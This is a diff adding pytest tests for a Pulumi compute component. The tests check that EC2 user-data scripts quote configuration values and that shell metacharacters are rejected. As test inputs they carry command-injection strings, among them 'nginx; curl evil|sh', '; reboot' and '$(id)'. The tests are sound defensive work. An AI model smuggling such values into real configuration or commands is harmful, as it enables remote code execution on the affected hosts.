@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import base64
 import json
+import shlex
+import subprocess
 from dataclasses import replace
 
 import pulumi
@@ -16,6 +18,7 @@ from components.compute import (
     Compute,
     ComputeArgs,
     Route,
+    render_app_user_data,
 )
 from config import parse_stack_config, seed
 from config.cloudflare import IPV4_RANGES
@@ -160,6 +163,44 @@ def test_user_data_runs_the_configured_image_read_only(build):
                     "aws:ec2/launchTemplate:LaunchTemplate")
     script = base64.b64decode(lt.inputs["userData"]).decode()
     assert "repo/app:1.2.3" in script and "-p 9000:9000" in script and "--read-only" in script
+
+
+HOSTILE = "nginx; curl evil|sh"
+
+
+def _bash_syntax_ok(script: str) -> bool:
+    return subprocess.run(["bash", "-n"], input=script, text=True).returncode == 0
+
+
+@pytest.mark.parametrize("sidecar", [None, "/sofacover/prod/pgbouncer"])
+def test_user_data_quotes_every_value_and_is_valid_bash(sidecar):
+    script = render_app_user_data(HOSTILE, 8080, "us-east-1; reboot",
+                                  sidecar and f"{sidecar}$(id)")
+    assert _bash_syntax_ok(script)
+    for line in script.splitlines():
+        if HOSTILE in line:  # the value is one word to the shell, never a command
+            assert HOSTILE in shlex.split(line) and shlex.quote(HOSTILE) in line
+    assert "'us-east-1; reboot'" in script or sidecar is None
+    assert sidecar is None or shlex.quote(f"{sidecar}$(id)/pgbouncer.ini") in script
+
+
+def test_user_data_of_valid_config_is_valid_bash_and_runs_the_image_as_one_word(build):
+    image = "123456789012.dkr.ecr.us-east-1.amazonaws.com/app@sha256:" + "0a" * 32
+    script = render_app_user_data(image, 9000, "us-east-1", "/sofacover/prod/pgbouncer")
+    assert _bash_syntax_ok(script)
+    run = next(line for line in script.splitlines() if "--name app" in line)
+    assert shlex.split(run)[-1] == image
+
+
+@pytest.mark.parametrize("changes,arg", [
+    (dict(app_image=HOSTILE), "app_image"),
+    (dict(health_check_path="/healthz && reboot"), "health_check_path"),
+    (dict(sidecar_parameter_path="/sofacover/prod;id"), "sidecar_parameter_path"),
+    (dict(domain_name="example.com;id"), "domain_name"),
+])
+def test_the_component_refuses_shell_metacharacters_without_the_config(build, changes, arg):
+    with pytest.raises(ValueError, match=f"ComputeArgs: {arg} is "):
+        build(compute(**changes))
 
 
 def test_ami_is_looked_up_from_the_ssm_parameter_it_is_given(build):
